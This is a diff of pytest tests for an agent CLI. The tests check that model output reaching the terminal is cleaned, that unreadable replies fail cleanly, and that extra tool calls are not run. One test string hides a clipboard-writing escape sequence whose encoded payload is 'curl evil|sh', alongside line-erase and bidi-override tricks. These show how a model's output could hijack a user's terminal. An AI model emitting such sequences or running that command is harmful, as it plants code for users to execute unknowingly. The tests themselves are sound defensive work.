@@ -8,6 +8,8 @@ from pathlib import Path
 
 import pytest
 
+from agent import read_transcript
+from agent.calls import MAX_TOOL_USES
 from agent.testing import ApiError, FakeMessagesAPI, reply, tool_use
 from tests.agent.conftest import Project
 from tooltree_cli.main import main
@@ -396,3 +398,56 @@ def test_an_address_that_answers_200_with_a_web_page_exits_3_with_one_line(
         "tooltree: error: the Messages API sent no message (its answer was text/html, not an event stream: "
         "is ANTHROPIC_BASE_URL the Messages API?)"
     ]
+
+
+EVIL = "\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2K\r\x9b8m\u202e"
+"""OSC 52 (writes the clipboard), erase the line, a carriage return, an 8-bit CSI, a bidi override."""
+
+
+def test_what_the_model_wrote_reaches_the_terminal_cleaned(
+    project: Project, api: FakeMessagesAPI, capsys: pytest.CaptureFixture[str]
+) -> None:
+    # Before: a tool name, a note and the answer went to the terminal raw: the model could set the user's
+    # clipboard, erase lines and forge the live view.
+    api.add(reply(tool_use("crm__get_record" + EVIL + "x" * 500, {})), reply(f"Line one{EVIL}\nLine two"))
+    assert main(argv(project)) == 0
+    out, err = capsys.readouterr()
+    assert not any(c in out + err for c in "\x1b\x07\x9b\u202e")
+    assert out == "Line one\n\nLine two\n"  # the answer's text and lines kept (a carriage return ends a line)
+    (tool_line,) = [line for line in err.splitlines() if line.startswith("  crm__get_record")]
+    assert len(tool_line) < 300 and "…" in tool_line  # one line, the name and the note cut
+
+    api.add(reply(f"Done{EVIL}"))
+    assert main(argv(project, "--json", "--quiet")) == 0
+    out = capsys.readouterr().out
+    assert not any(c in out for c in "\x1b\x07\x9b\u202e") and "\\u009b" in out and "\\u202e" in out
+    assert json.loads(out)["answer"] == f"Done{EVIL}"  # JSON keeps the answer as it was, escaped
+
+
+def test_a_reply_the_sdk_cannot_read_exits_3_with_a_short_error_and_the_runs_summary(
+    project: Project, api: FakeMessagesAPI, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    # Before: exit 1 (which means a limit, a refusal or max_tokens) and the SDK's error quoting the input.
+    deep: dict[str, object] = {}
+    for _ in range(300):  # deeper than the SDK's parser goes
+        deep = {"a": deep}
+    api.add(reply(tool_use("crm__get_record", {"object_type": "lead", "record_id": "x", "extra": deep})))
+    transcript = tmp_path / "run.jsonl"
+    assert main(argv(project, "--transcript", str(transcript))) == 3
+    captured = capsys.readouterr().err
+    assert '{"a": {"a"' not in captured
+    # The fake API's thread may report on stderr that the client closed the stream it was still writing.
+    err = [line for line in captured.splitlines() if line.startswith("tooltree")]
+    assert len(err) == 2 and err[0].startswith("tooltree: error: the model's reply could not be read: ")
+    assert len(err[0]) < 400 and err[0].endswith("the run stopped there, run the task again")
+    assert err[1].startswith("tooltree: unreadable_reply after 1 turn(s)")
+    assert read_transcript(transcript)[-1]["summary"]["stop_reason"] == "unreadable_reply"
+
+
+def test_the_summary_says_how_many_calls_of_a_reply_were_not_run(
+    project: Project, api: FakeMessagesAPI, capsys: pytest.CaptureFixture[str]
+) -> None:
+    api.add(reply(*[tool_use("media__list_gallery") for _ in range(MAX_TOOL_USES + 2)]), reply("Listed."))
+    assert main(argv(project)) == 0
+    err = capsys.readouterr().err
+    assert f"· {MAX_TOOL_USES} tool call(s) (2 more not run: too many in one reply), " in err
